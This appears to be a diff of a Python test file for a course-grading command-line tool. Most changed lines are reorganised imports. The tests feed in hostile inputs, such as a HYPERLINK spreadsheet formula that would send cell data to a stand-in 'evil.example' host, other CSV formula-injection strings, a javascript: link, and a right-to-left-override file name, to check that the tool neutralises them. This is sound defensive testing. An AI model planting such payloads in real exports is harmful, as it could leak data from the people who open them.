@@ -13,9 +13,11 @@ from factory import edit, solved, write
 from helpers import run_tito
 from rich.console import Console
 
-from tito import cli, ui
+from tito.cli import main as cli
+from tito.cli import student as student_cli
+from tito.cli import ui
 from tito.errors import TitoError
-from tito.report import CellResult, FlagKind, GradeReport
+from tito.grading.report import CellResult, Flag, FlagKind, GradeReport
 
 # Each is lost, restyled or a crash (`[/]` closes a tag that was never opened) when read as markup.
 MARKUP = ["[/]", "[bold]", "[layer.weight, layer.bias]", "[link=javascript:x]click[/link]"]
@@ -109,7 +111,7 @@ def test_the_cli_handlers_show_any_message_verbatim(monkeypatch, problem):
 
     console = recorder()
     monkeypatch.setattr(ui, "errors", console)
-    monkeypatch.setattr(cli, "cmd_system_doctor", explode)
+    monkeypatch.setattr(student_cli, "cmd_system_doctor", explode)
     assert cli.main(["system", "doctor"]) == 1
     shown = console.export_text(clear=False)
     expected = "unexpected RuntimeError: [/]" if isinstance(problem, RuntimeError) else "no folder a[b] [/]"
@@ -162,14 +164,14 @@ def test_autograde_and_export_of_hostile_students(repo):
 @pytest.mark.parametrize("text", ["=1+1", "+1", "-x", "@SUM(1+1)", "\tx", "\rx", "\0x", " =1+1", "\n=1", "  @x",
                                   '=HYPERLINK("http:evil.example?"&A1,"x")', "-", "="])
 def test_a_formula_is_made_text(text):
-    from tito import csvsafe
+    from tito.workflows.instructor import csvsafe
 
     assert csvsafe.cell(text) == "'" + text
 
 
 @pytest.mark.parametrize("value", [-5.0, 0.0, 7.5, 100, -3, float("inf")])
 def test_numbers_stay_numbers(value):
-    from tito import csvsafe
+    from tito.workflows.instructor import csvsafe
 
     assert csvsafe.cell(value) == value
 
@@ -177,13 +179,13 @@ def test_numbers_stay_numbers(value):
 @pytest.mark.parametrize("text", ["", "ada", "100/100", "2026-11-20 10:00:00 UTC", "tampered: a = 1", "a-b", "'x",
                                   "1e5"])
 def test_ordinary_text_is_unchanged(text):
-    from tito import csvsafe
+    from tito.workflows.instructor import csvsafe
 
     assert csvsafe.cell(text) == text
 
 
 def test_none_is_an_empty_cell_and_a_row_is_made_safe():
-    from tito import csvsafe
+    from tito.workflows.instructor import csvsafe
 
     assert csvsafe.cell(None) == ""
     assert csvsafe.row(["=x", -1.5, None, "ok"]) == ["'=x", -1.5, "", "ok"]
@@ -194,13 +196,15 @@ HOSTILE_IDS = ['=HYPERLINK("http:evil.example?"&A1,"x")', "@SUM(1+1)", "+1", "-x
 
 def test_grades_csv_holds_no_formula(repo):
     """A gradebook made with nbgrader's API (no grading): hostile ids, names, reasons and flags."""
-    from tito import course, gradebook, instructor
+    from tito.course.paths import Paths
+    from tito.coursedir.config import CoursePaths, load_config
+    from tito.coursedir.database import opened
     from tito.fileops import atomic_write_text
-    from tito.paths import Paths
+    from tito.workflows.instructor import assignments as instructor
 
     paths = Paths(repo)
-    coursedir = course.directory(course.load_config(paths))
-    with gradebook.opened(coursedir.db_url) as book:
+    course = CoursePaths.of(load_config(paths))
+    with opened(course.db_url) as book:
         book.add_assignment("03_layers")
         book.add_notebook("layers", "03_layers")
         book.add_grade_cell("test-linear", "layers", "03_layers", max_score=15.0, cell_type="code")
@@ -211,8 +215,8 @@ def test_grades_csv_holds_no_formula(repo):
             grade.auto_score = 7.5
         book.db.commit()
     for student in HOSTILE_IDS:
-        stored = course.path(coursedir, coursedir.autograded_directory, student, "03_layers", course.REPORT_FILE)
-        atomic_write_text(stored, json.dumps({"reason": "=1+1", "flags": [{"kind": "tampered", "message": "x"}]}))
+        stored = GradeReport(student, "03_layers", graded=False, flags=[Flag(FlagKind.TAMPERED, "=1+1")])
+        atomic_write_text(course.report(student, "03_layers"), json.dumps(stored.to_dict()))
 
     rows = list(csv.reader(io.StringIO(instructor.grades_csv(paths), newline="")))
     header, body = rows[0], rows[1:]
@@ -228,7 +232,7 @@ def test_grades_csv_holds_no_formula(repo):
 
 
 def test_a_line_break_in_a_cell_never_starts_a_row():
-    from tito import csvsafe
+    from tito.workflows.instructor import csvsafe
 
     stream = io.StringIO(newline="")
     writer = csvsafe.writer(stream)
@@ -281,7 +285,7 @@ def test_tito_never_prints_text_built_at_run_time_as_markup():
 def test_bidirectional_overrides_and_invisible_characters_are_shown():
     from rich.console import Console
 
-    from tito import ui
+    from tito.cli import ui
 
     console = Console(record=True, width=200, color_system=None)
     console.print(ui.plain("notes\u202etxt.exe and\u200bzero\ufeffwidth"))
